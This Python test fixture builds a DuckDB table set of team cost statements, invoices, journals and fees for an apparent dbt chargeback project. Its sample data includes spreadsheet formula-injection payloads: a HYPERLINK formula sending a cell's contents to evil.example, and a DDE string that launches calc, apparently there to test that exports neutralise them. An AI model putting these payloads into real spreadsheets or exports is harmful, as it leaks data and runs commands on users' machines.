"""A small publication with statements, made by plain SQL: two teams, nobody, two currencies."""

from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb

from tests.dbt_runs import read_manifest

MONTH = date(2026, 10, 1)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
KINDS = ("usage", "purchase", "shared", "adjustment", "credit", "tax", "fee")
MODELS = (
    "dim_currencies", "team_statement_lines_month", "team_statements_month", "team_drivers_month",
    "team_statement_questions_month", "invoice_statements_month", "journal_lines_month",
    "chargeback_fees_month", "shared_costs_month", "dim_statement_acceptances",
    "team_accruals_month", "accrual_journal_lines_month", "invoice_payments_month",
    "focus_1_2", "focus_1_4", "focus_1_4_billing_period", "focus_1_4_invoice_detail",
)  # fmt: skip


def line(number: int, team: str, cost: str, **others: Any) -> dict[str, Any]:
    """Return one line of a statement."""
    document = others.pop("document_id", "d1")
    currency = others.pop("billing_currency", "USD")
    digits = others.pop("minor_unit_digits", 2)
    return {
        "statement_line_id": f"l{number}",
        "document_id": document,
        "billing_month": MONTH,
        "service_provider_name": "OpenAI",
        "billing_account_id": "org-1",
        "invoice_id": None,
        "billing_currency": currency,
        "team_id": team,
        "team_name": {"search": "Search", "legal": FORMULA}.get(team, team),
        "cost_center_id": "CC-1",
        "line_kind": "usage",
        "charge_category": "Usage",
        "sub_account_id": "proj_1",
        "sub_account_name": "@SUM(1+1)*cmd|' /C calc'!A0",
        "service_name": "OpenAI API",
        "ai_model_id": "openai/gpt-4o",
        "allocation_method": "usage",
        "allocation_rule": "credential",
        "billed_cost": Decimal(cost),
        "reporting_currency": "USD",
        "reporting_billed_cost": Decimal(cost) if currency == "USD" else None,
        "effective_cost": Decimal(cost),
        "list_cost": None,
        "consumed_tokens": Decimal(1_000_000),
        "charge_count": 1,
        "statement_cost": Decimal(cost),
        "minor_unit_digits": digits,
        "rounding_method": "largest remainder",
        **others,
    }


LINES = [
    line(1, "search", "10.01"),
    line(2, "search", "-2.50", line_kind="credit", charge_category="Credit", ai_model_id="none"),
    line(3, "legal", "3.30"),
    line(4, "legal", "700", billing_currency="JPY", minor_unit_digits=0, document_id="d2"),
    line(5, "unallocated", "0.19", allocation_method="unallocated", allocation_rule="unallocated"),
]


def statements(lines: list[dict[str, Any]] | None = None) -> list[dict[str, Any]]:
    """Return the heads of the statements, added up here by other means than the models'."""
    heads: dict[tuple[str, str], dict[str, Any]] = {}
    for row in LINES if lines is None else lines:
        key = (row["team_id"], row["billing_currency"])
        head = heads.setdefault(
            key,
            {
                "billing_month": MONTH,
                "team_id": row["team_id"],
                "team_name": row["team_name"],
                "billing_currency": row["billing_currency"],
                **{f"{kind}_cost": Decimal(0) for kind in KINDS},
                "statement_cost": Decimal(0),
                "billed_cost": Decimal(0),
                "opening_cost": Decimal("5.00"),
                "previous_statement_cost": Decimal("5.00"),
                "line_count": 0,
                "acceptance_state": "open",
            },
        )
        head[f"{row['line_kind']}_cost"] += row["statement_cost"]
        head["statement_cost"] += row["statement_cost"]
        if row["line_kind"] != "fee":
            head["billed_cost"] += row["billed_cost"]
        head["line_count"] += 1
    for head in heads.values():
        head["closing_cost"] = head["opening_cost"] + head["statement_cost"]
        head["change_cost"] = head["statement_cost"] - head["previous_statement_cost"]
    return list(heads.values())


def invoice(document: str, currency: str, cost: str, unallocated: str) -> dict[str, Any]:
    """Return one invoice."""
    return {
        "document_id": document,
        "billing_month": MONTH,
        "service_provider_name": "OpenAI",
        "billing_account_id": "org-1",
        "billing_currency": currency,
        "billed_cost": Decimal(cost),
        "invoice_cost": Decimal(cost),
        "allocated_cost": Decimal(cost) - Decimal(unallocated),
        "unallocated_cost": Decimal(unallocated),
        "difference_cost": Decimal(0),
        "team_count": 2,
        "reporting_currency": "USD",
        "fx_rate": Decimal(1) if currency == "USD" else Decimal("0.0066"),
        "fx_rate_source": None if currency == "USD" else "=ECB()",
        "is_fx_rate_carried": currency != "USD",
    }


def journal(number: int, side: str, account: str, amount: str, **others: Any) -> dict[str, Any]:
    """Return one line of the journal; a negative amount is a credit."""
    signed = Decimal(amount)
    return {
        "journal_line_id": f"j{number}",
        "document_id": "d1",
        "line_number": number,
        "billing_month": MONTH,
        "posting_date": date(2026, 10, 31),
        "reversal_date": date(2026, 11, 1),
        "service_provider_name": "OpenAI",
        "billing_account_id": "org-1",
        "billing_currency": "USD",
        "entry_side": side,
        "gl_account": account,
        "debit_cost": signed if signed > 0 else None,
        "credit_cost": -signed if signed < 0 else None,
        **others,
    }


JOURNAL = [
    journal(1, "expense", "6450", "3.30", team_id="legal", cost_center_id="CC-1"),
    journal(2, "expense", "6450", "7.51", team_id="search", cost_center_id="CC-1"),
    journal(3, "expense", "6450", "0.19", team_id="unallocated"),
    journal(4, "clearing", "2190", "-11.00"),
]


def rows() -> dict[str, list[dict[str, Any]]]:
    """Return the rows of every table that has any."""
    of = {"billing_month": MONTH, "service_provider_name": "OpenAI", "service_name": "OpenAI API"}
    of |= {"ai_model_id": "openai/gpt-4o", "billing_currency": "USD", "team_id": "search"}
    return {
        "dim_currencies": [
            {"billing_currency": "USD", "minor_unit_digits": 2, "minor_units": 100},
            {"billing_currency": "JPY", "minor_unit_digits": 0, "minor_units": 1},
        ],
        "team_statement_lines_month": LINES,
        "team_statements_month": statements(),
        "team_drivers_month": [
            {
                **of, "statement_cost": Decimal("10.01"), "change_cost": Decimal("10.01"),
                "consumed_tokens": 1_000_000, "billed_cost_per_million_tokens": Decimal("10.01"),
            }
        ],
        "team_statement_questions_month": [
            {
                **of, "question_kind": "new", "statement_cost": Decimal("10.01"),
                "credential_id": "+key", "ask_whom": "owner of the key or project",
            }
        ],
        "invoice_statements_month": [
            invoice("d1", "USD", "11.00", "0.19"), invoice("d2", "JPY", "700", "0"),
        ],
        "journal_lines_month": JOURNAL,
        "focus_1_4": [
            {
                "x_AllocatedChargeId": f"a{number}", "x_BillingMonth": MONTH, "x_TeamId": team,
                "BilledCost": Decimal(1),
            }
            for number, team in enumerate(("search", "legal", "unallocated"))
        ],
    }  # fmt: skip


def with_fee() -> dict[str, list[dict[str, Any]]]:
    """Return the tables that a fee of 0.52 to search changes."""
    fee = line(
        6, "search", "0.52", document_id="f1", service_provider_name="Internal chargeback",
        billing_account_id="chargeback", line_kind="fee", charge_category="Purchase",
        service_name="=Platform", ai_model_id="none", sub_account_id=None, sub_account_name=None,
        allocation_method="fee", allocation_rule="fee_percent", consumed_tokens=None,
        charge_count=0,
    )  # fmt: skip
    of_fee = {"document_id": "f1", "service_provider_name": "Internal chargeback"}
    return {
        "team_statement_lines_month": [*LINES, fee],
        "team_statements_month": statements([*LINES, fee]),
        "chargeback_fees_month": [
            {
                "document_id": "f1", "billing_month": MONTH, "fee_name": "=Platform",
                "recovery_account": "7900", "recovery_cost_center_id": "CC-9",
                "billing_currency": "USD", "base_cost": Decimal("10.41"),
                "exact_fee_cost": Decimal("0.5205"), "fee_cost": Decimal("0.52"), "team_count": 1,
                "reporting_currency": "USD", "reporting_exact_fee_cost": Decimal("0.5205"),
            }
        ],
        "journal_lines_month": [
            *JOURNAL,
            journal(5, "expense", "6450", "0.52", team_id="search", **of_fee),
            journal(6, "recovery", "7900", "-0.52", cost_center_id="CC-9", **of_fee),
        ],
    }  # fmt: skip


def columns_of(home: Path) -> dict[str, dict[str, str]]:
    """Return column types of the models by the contracts, so that both sides have one shape."""
    nodes = read_manifest(home)["nodes"]
    return {
        name: {
            column["name"]: column["data_type"]
            for column in nodes[f"model.bursar.{name}"]["columns"].values()
        }
        for name in MODELS
    }


def write(
    path: Path, columns: dict[str, dict[str, str]], tables: dict[str, list[dict[str, Any]]]
) -> Path:
    """Write a publication with these rows."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with duckdb.connect(str(path)) as connection:
        for name, types in columns.items():
            listed = ", ".join(f'"{column}" {kind}' for column, kind in types.items())
            connection.execute(f"create table {name} ({listed})")
            for row in tables.get(name, []):
                assert row.keys() <= types.keys(), (name, row.keys() - types.keys())
                names = ", ".join(f'"{column}"' for column in row)
                marks = ", ".join("?" for _ in row)
                connection.execute(
                    f"insert into {name} ({names}) values ({marks})", list(row.values())
                )
        connection.execute(
            "create table publication as select ? as publication_id, "
            "?::timestamp as published_at, ?::timestamp as data_complete_to, "
            "'abc' as code_version, '0.2.3' as price_book_version",
            ["20261122T000000000000Z", datetime(2026, 11, 22, 1, 2, 3), datetime(2026, 11, 21)],  # noqa: DTZ001
        )
    return path
